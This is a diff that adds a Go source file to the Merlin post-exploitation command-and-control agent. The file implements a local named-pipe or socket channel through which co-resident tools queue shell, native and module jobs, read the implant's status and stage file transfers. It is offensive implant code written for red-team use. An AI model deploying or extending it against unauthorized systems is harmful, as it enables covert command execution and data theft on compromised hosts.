@@ -0,0 +1,310 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bufio"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	// 3rd Party
+	"github.com/satori/go.uuid"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cleanup"
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+// localOperator is the operator local jobs are attributed to in their results
+const localOperator = "the local control channel"
+
+// localListener accepts connections on the named pipe or Unix domain socket of the local control channel
+type localListener interface {
+	Accept() (io.ReadWriteCloser, error)
+	Close() error
+}
+
+// local is the control channel a co-resident tool queues jobs and retrieves the agent's status through
+var local = struct {
+	sync.Mutex
+	path     string
+	listener localListener
+	remove   func()
+	pending  []jobs.Job  // pending are the jobs received since the agent's last check in
+	ids      sync.Map    // ids are the job IDs created by the local control channel
+	status   localStatus // status is refreshed by the agent's main loop so it can be read without a data race
+	queued   int         // queued is the number of jobs received over the channel
+}{}
+
+// localRequest is a single line of JSON sent by a local tool
+type localRequest struct {
+	Type    string   `json:"type"`    // Type is status, cmd, native, or module
+	Command string   `json:"command"` // Command is the command or module to execute
+	Args    []string `json:"args"`    // Args are the command's arguments
+}
+
+// localResponse is the single line of JSON returned for each request
+type localResponse struct {
+	ID     string       `json:"id,omitempty"`     // ID is the job ID a queued job's results are returned to the server with
+	Status *localStatus `json:"status,omitempty"` // Status is the agent's status for a status request
+	Error  string       `json:"error,omitempty"`  // Error is why the request failed
+}
+
+// localStatus is the agent's status as of its last check in
+type localStatus struct {
+	ID          string `json:"id"`
+	Version     string `json:"version"`
+	User        string `json:"user"`
+	Host        string `json:"host"`
+	PID         int    `json:"pid"`
+	Registered  bool   `json:"registered"`
+	LastCheckIn string `json:"lastCheckIn,omitempty"`
+	Sleep       string `json:"sleep"`
+	Failed      int    `json:"failedCheckIns"`
+	Queued      int    `json:"queuedJobs"`
+	Running     int64  `json:"runningJobs"`
+	Pending     int    `json:"pendingLocalJobs"`
+}
+
+// localTypes are the jobs a local tool can queue; control jobs are excluded because they are not checked against the
+// agent's job policy
+var localTypes = map[string]int{
+	"cmd":    jobs.CMD,
+	"native": jobs.NATIVE,
+	"module": jobs.MODULE,
+}
+
+// startLocal listens on the named pipe, on Windows, or Unix domain socket, elsewhere, that only the agent's user can
+// connect to
+func startLocal(path string) error {
+	local.Lock()
+	defer local.Unlock()
+	if local.listener != nil {
+		return fmt.Errorf("the local control channel is already listening on %s", local.path)
+	}
+	listener, err := listenLocal(path)
+	if err != nil {
+		return err
+	}
+	local.path, local.listener = path, listener
+	local.remove = cleanup.Add(cleanup.PIPE, "local control channel "+path, func() error {
+		return stopLocal()
+	})
+	go serveLocal(listener)
+	return nil
+}
+
+// stopLocal closes the local control channel's listener
+func stopLocal() error {
+	local.Lock()
+	defer local.Unlock()
+	if local.listener == nil {
+		return fmt.Errorf("the local control channel is not listening")
+	}
+	err := local.listener.Close()
+	local.remove()
+	local.listener, local.path = nil, ""
+	return err
+}
+
+// serveLocal accepts connections until the listener is closed
+func serveLocal(listener localListener) {
+	for {
+		conn, err := listener.Accept()
+		if err != nil {
+			return
+		}
+		go handleLocal(conn)
+	}
+}
+
+// handleLocal answers each line of JSON the local tool sends with a line of JSON
+func handleLocal(conn io.ReadWriteCloser) {
+	defer conn.Close()
+	encoder := json.NewEncoder(conn)
+	scanner := bufio.NewScanner(conn)
+	scanner.Buffer(make([]byte, 4096), 1<<20)
+	for scanner.Scan() {
+		var request localRequest
+		var response localResponse
+		if err := json.Unmarshal(scanner.Bytes(), &request); err != nil {
+			response.Error = fmt.Sprintf("there was an error parsing the request: %s", err)
+		} else {
+			response = localHandle(request)
+		}
+		if encoder.Encode(response) != nil {
+			return
+		}
+	}
+}
+
+// localHandle returns the agent's status or queues the job to be executed after the agent's next check in
+func localHandle(request localRequest) (response localResponse) {
+	kind := strings.ToLower(request.Type)
+	if kind == "status" {
+		local.Lock()
+		status := local.status
+		status.Pending = len(local.pending)
+		local.Unlock()
+		response.Status = &status
+		return
+	}
+	t, ok := localTypes[kind]
+	if !ok {
+		response.Error = fmt.Sprintf("%s is not a supported request type, use status, cmd, native, or module", request.Type)
+		return
+	}
+	if request.Command == "" {
+		response.Error = "the request does not include a command"
+		return
+	}
+	job := jobs.Job{
+		ID:      uuid.NewV4().String(),
+		Type:    t,
+		Payload: jobs.Command{Command: request.Command, Args: request.Args},
+	}
+	local.Lock()
+	local.pending = append(local.pending, job)
+	local.queued++
+	local.Unlock()
+	local.ids.Store(job.ID, true)
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Received %s job %s from the local control channel", request.Type, job.ID))
+	}
+	// The job is handled by the agent's main loop, which is waiting for the sleep to end
+	wakeNow()
+	response.ID = job.ID
+	return
+}
+
+// localJobs hands the jobs received from the local control channel to the job handler, the same as jobs from the
+// server, and refreshes the status returned to local tools. It is called from the agent's main loop so neither the
+// job handler nor the status race with the agent's check in
+func (a *Agent) localJobs() {
+	local.Lock()
+	pending := local.pending
+	local.pending = nil
+	local.status = localStatus{
+		ID:         a.ID.String(),
+		Version:    a.Version,
+		User:       a.UserName,
+		Host:       a.HostName,
+		PID:        a.Pid,
+		Registered: a.Initial,
+		Sleep:      a.WaitTime.String(),
+		Failed:     a.FailedCheckin,
+		Queued:     queueLength(),
+		Running:    atomic.LoadInt64(&runningJobs),
+	}
+	if !a.sCheckIn.IsZero() {
+		local.status.LastCheckIn = a.sCheckIn.Format(time.RFC3339)
+	}
+	local.Unlock()
+
+	if len(pending) == 0 {
+		return
+	}
+	for i := range pending {
+		pending[i].AgentID = a.ID
+		operators.Store(pending[i].ID, localOperator)
+	}
+	a.jobHandler(pending)
+}
+
+// localResult returns the results of a job from the local control channel without a job ID because the server did not
+// create the job, and identifies the local job in the results instead. A file transfer can't be returned without the
+// job ID it answers, so it is kept on the agent in the staging area and a result with its staging ID is returned. ok is
+// false when the job is dropped. The job ID is kept because a job can return more than one result
+func localResult(job jobs.Job) (jobs.Job, bool) {
+	if _, ok := local.ids.Load(job.ID); !ok {
+		return job, true
+	}
+	var results jobs.Results
+	switch job.Type {
+	case jobs.RESULT:
+		results = job.Payload.(jobs.Results)
+	case jobs.FILETRANSFER:
+		ft := job.Payload.(jobs.FileTransfer)
+		data, err := base64.StdEncoding.DecodeString(ft.FileBlob)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error decoding the file transfer %s: %s", ft.FileLocation, err)
+			break
+		}
+		id, err := staging.Add(filepath.Base(ft.FileLocation), data)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error staging the file transfer %s: %s", ft.FileLocation, err)
+			break
+		}
+		results.Stdout = fmt.Sprintf("Staged the file transfer %s (%d bytes) as %s\n", ft.FileLocation, len(data), id)
+	default:
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("dropping %s job for local job %s", jobs.String(job.Type), job.ID))
+		}
+		return job, false
+	}
+	results.Stdout = fmt.Sprintf("Local job %s\n%s", job.ID, results.Stdout)
+	return jobs.Job{AgentID: job.AgentID, Type: jobs.RESULT, Payload: results}, true
+}
+
+// localControl starts, stops, or returns the status of the local control channel
+// local [start <pipe name|socket path>|stop]
+func localControl(args []string) (results jobs.Results) {
+	if len(args) == 0 {
+		local.Lock()
+		defer local.Unlock()
+		if local.listener == nil {
+			results.Stdout = "The local control channel is not listening"
+			return
+		}
+		results.Stdout = fmt.Sprintf("The local control channel is listening on %s, %d jobs received", local.path, local.queued)
+		return
+	}
+	switch strings.ToLower(args[0]) {
+	case "start":
+		if len(args) < 2 {
+			results.Stderr = "the local start command requires a named pipe or Unix domain socket path"
+			return
+		}
+		if err := startLocal(args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("The local control channel is listening on %s", args[1])
+	case "stop":
+		if err := stopLocal(); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = "Stopped the local control channel"
+	default:
+		results.Stderr = fmt.Sprintf("unknown local command: %s", args[0])
+	}
+	return
+}